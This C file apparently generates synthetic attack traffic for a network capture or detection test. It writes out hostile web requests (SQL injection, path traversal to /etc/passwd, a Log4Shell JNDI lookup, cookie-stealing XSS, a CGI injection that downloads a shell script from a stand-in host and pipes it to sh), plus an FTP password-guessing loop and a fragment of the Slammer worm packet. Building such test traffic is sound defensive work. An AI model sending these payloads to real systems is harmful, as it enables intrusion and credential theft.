/* SPDX-License-Identifier: BSD-2-Clause */
/* attacks.c - what is said with ill will: requests, guesses at passwords, a worm. By construction each one counts. */
#include "scene.h"

#include <stdio.h>
#include <string.h>

/* One request and its response, each in a connection of its own. */
static void ask(struct scene *scene, struct end client, struct end server, uint64_t time_ns, const char *request,
	unsigned status)
{
	static const char page[] = "<html><body><h1>Halaman</h1></body></html>\n";
	struct talk talk = talk_open(scene, client, server, time_ns, MILLISECONDS(30));
	char response[200];

	talk_say(&talk, request, strlen(request));
	snprintf(response, sizeof response, "HTTP/1.1 %u X\r\nContent-Type: text/html\r\nContent-Length: %zu\r\n\r\n%s",
		status, sizeof page - 1, page);
	talk_hear(&talk, response, strlen(response));
	talk_close(&talk);
}

void attack_web(struct scene *scene, struct end from, struct end server, uint64_t time_ns, unsigned times)
{
	static const char *const targets[] = {
		"/berita.php?id=1%27%20union%20select%201,2,concat(user,0x3a,password),4%20from%20users--%20-",
		"/download.php?file=../../../../../../etc/passwd", "/?x=${jndi:ldap://203.0.113.9:1389/a}",
		"/cari?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "/.env", "/.git/config",
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/;wget%20http://203.0.113.9/x.sh%20-O-|sh",
	};
	static const unsigned statuses[] = { 200, 404, 200, 200, 404, 403, 404, 400 };
	unsigned kinds = sizeof targets / sizeof *targets;

	for (unsigned i = 0; i < times; i++) {
		char request[400];

		snprintf(request, sizeof request, "GET %s HTTP/1.1\r\nHost: www.example.go.id\r\n"
			"User-Agent: Mozilla/5.0 (Windows NT 10.0)\r\nAccept: */*\r\n\r\n", targets[i % kinds]);
		from.port = (uint16_t)(40000 + i);
		ask(scene, from, server, time_ns + i * MILLISECONDS(700), request, statuses[i % kinds]);
	}
	ledger_attempts(scene->ledger, "web", times);
}

void attack_ftp(struct scene *scene, struct end from, struct end server, uint64_t time_ns, unsigned times)
{
	server.port = 21;
	for (unsigned i = 0; i < times; i++) {
		char pass[40];

		from.port = (uint16_t)(30000 + i);

		struct talk talk = talk_open(scene, from, server, time_ns + i * MILLISECONDS(1300), MILLISECONDS(60));

		talk_hear(&talk, "220 FTP kota\r\n", 14);
		talk_say(&talk, "USER admin\r\n", 12);
		talk_hear(&talk, "331 password\r\n", 14);
		talk_say(&talk, pass, (size_t)snprintf(pass, sizeof pass, "PASS kota%04u\r\n", i));
		talk_hear(&talk, "530 Login incorrect.\r\n", 22);
		talk_close(&talk);
	}
	ledger_attempts(scene->ledger, "login", times);
}

void attack_slammer(struct scene *scene, struct end from, struct end server, uint64_t time_ns)
{
	static uint8_t worm[376];
	struct frame frame;

	memset(worm, 1, sizeof worm);
	worm[0] = 4;
	memcpy(worm + 97, "\xdc\xc9\xb0\x42\xeb\x0e\x01\x01\x01\x01\x01\x01\x01\x70\xae\x42\x01\x70\xae\x42", 20);
	memcpy(worm + 140, "h.dllhel32hkernQhounthickChGetTf\xb9ll", 34);
	server.port = 1434;
	datagram(&frame, from, server, (const char *)worm, sizeof worm);
	put(scene, &frame, time_ns);
	ledger_attempts(scene->ledger, "exploit", 1);
}
